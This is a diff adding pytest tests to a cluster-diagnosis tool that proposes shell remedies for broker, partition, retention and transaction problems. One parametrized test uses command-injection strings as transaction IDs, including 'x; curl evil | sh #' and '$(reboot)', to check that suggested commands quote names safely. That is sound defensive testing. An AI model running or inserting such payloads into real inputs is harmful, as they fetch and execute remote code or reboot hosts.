@@ -18,7 +18,14 @@ from ottla.client.cluster_admin import LogDirFacts, ReplicaOnDisk
 from ottla.client.group_admin import GroupDescription, GroupMember, PartitionLag
 from ottla.client.model import BrokerInfo, Config, QuorumInfo, QuorumReplica, Reassignment
 from ottla.client.transaction_admin import OpenTransaction, TransactionDescription
-from ottla.diagnosis.doctor import RULES, FindingSeverity, Growth, examine, full_after_s
+from ottla.diagnosis.doctor import (
+    RULES,
+    FindingSeverity,
+    Growth,
+    HealthFinding,
+    examine,
+    full_after_s,
+)
 from ottla.diagnosis.facts import (
     ELIGIBLE_REPLICAS,
     AdvertisedEndpoint,
@@ -605,7 +612,57 @@ def test_an_unclean_election_is_not_advised_while_a_replica_is_missing() -> None
         offline,
         brokers=tuple(each for each in offline.brokers if each.id != 2),
         unknown={ELIGIBLE_REPLICAS: "an answer is overdue"},
+        machine=machine(nodes=(node(2, state="killed", pid=None),)),
     )
     (finding,) = [each for each in examine(silent) if each.rule == "partitions-offline"]
     assert "is not known" in finding.what
     assert finding.mend == "ottla nodes start 2"
+
+
+@pytest.mark.parametrize("id", ["x; curl evil | sh #", "it's", "--help", "$(reboot)", "a b"])
+def test_a_name_in_a_mend_is_one_word_to_the_shell_and_no_option(id: str) -> None:
+    facts = replace(HEALTHY, **open_transaction(600_000, owned=True))
+    facts = replace(facts, transactions=(facts.transactions[0]._replace(id=id),))
+    (found,) = [each for each in examine(facts, " --dir d") if each.rule == "transaction-pins"]
+    words = shlex.split(found.mend)
+    assert words[:3] == ["ottla", "transactions", "abort"] and id in words
+    parse(words[1:])
+
+
+def offline_finding(facts: Facts) -> HealthFinding:
+    (found,) = [each for each in examine(facts) if each.rule == "partitions-offline"]
+    return found
+
+
+def test_an_unclean_election_is_advised_only_for_the_partitions_that_need_it() -> None:
+    lost = {"leader": -1, "isr": ()}
+    found = offline_finding(replace(HEALTHY, topics=(led_by({1: lost, 4: lost}),)))
+    assert found.mend.startswith("ottla topics elect orders --unclean -p 1 -p 4  #")
+
+
+def test_who_was_eligible_last_is_awaited_and_not_said_to_lead_without_loss() -> None:
+    lost = {"leader": -1, "isr": (), "replicas": (1, 2, 3), "last_known_elr": (3,)}
+    facts = replace(HEALTHY, topics=(led_by({1: lost}),), brokers=brokers(fenced=True))
+    killed = machine(nodes=(node(3, state="killed", pid=None),))
+    found = offline_finding(replace(facts, machine=killed))
+    assert "without loss: none; the last known to be eligible, which may lack records: 3" in (
+        found.what
+    )
+    assert found.mend == "ottla nodes start 3"
+
+
+@pytest.mark.parametrize("rule", ["disk-full", "disk-will-be-full"])
+def test_a_shorter_retention_is_said_to_delete_records(rule: str) -> None:
+    mends = [
+        each.mend
+        for _, _, facts in STAGED[rule]
+        for each in examine(facts)
+        if each.rule == rule and "retention.bytes" in each.mend
+    ]
+    assert mends and all("DELETES the older half of orders" in mend for mend in mends)
+
+
+def test_a_broker_whose_process_runs_is_continued_and_not_started() -> None:
+    (found,) = examine(replace(HEALTHY, brokers=brokers(fenced=True)))
+    assert "its process 103 runs, and is paused" in found.what
+    assert found.mend.startswith("kill -CONT 103  # if it is paused")
